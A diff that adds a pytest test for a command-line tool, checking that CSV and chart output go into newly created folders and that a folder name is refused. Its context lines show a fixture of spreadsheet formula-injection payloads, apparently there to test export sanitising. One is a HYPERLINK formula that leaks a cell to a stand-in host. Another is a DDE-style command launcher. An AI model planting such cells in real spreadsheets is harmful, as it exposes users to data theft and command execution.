@@ -101,6 +101,25 @@ def test_changes_lists_who_came_and_left_with_profiles(sample_store, tmp_path):
     assert len(records) == len(diff) and {r["change"] for r in records} == {"new", "lost"}
 
 
+def test_csv_and_chart_files_go_into_a_new_folder_and_a_folder_name_is_refused(sample_store,
+                                                                              tmp_path):
+    """`changes --csv new/changes.csv` raised a traceback (pandas: 'Cannot save file into a
+    non-existent directory'), and `--csv out/` one more (IsADirectoryError), after the work."""
+    where = ["--store", str(sample_store.path)]
+    csv = tmp_path / "new" / "deeper" / "changes.csv"
+    out = run("changes", "brightwave", "--limit", "1", "--csv", str(csv), *where)
+    assert out.exit_code == 0 and csv.exists(), out.output
+    out = run("compare", "brightwave", "datadock", "--csv", str(tmp_path / "c" / "pairs.csv"),
+              "--chart", str(tmp_path / "c" / "grid.png"), *where)
+    assert out.exit_code == 0 and {p.name for p in (tmp_path / "c").iterdir()} == {
+        "pairs.csv", "grid.png"}, out.output
+    for command in (["changes", "brightwave"], ["triage", "brightwave"]):
+        bad = run(*command, "--csv", str(tmp_path / "out") + "/", *where)
+        assert bad.exit_code == 2 and "names a folder; give a file in it, e.g. " \
+            f"{tmp_path / 'out'}/{command[0]}.csv" in bad.output, bad.output
+    assert not (tmp_path / "out").exists()
+
+
 HOSTILE_CELLS = {"name": '=HYPERLINK("https://evil.example/?leak="&A1,"click me")',
                  "description": "@SUM(1+1)*cmd|' /C calc'!A0", "location": "+1 555 0100"}
 
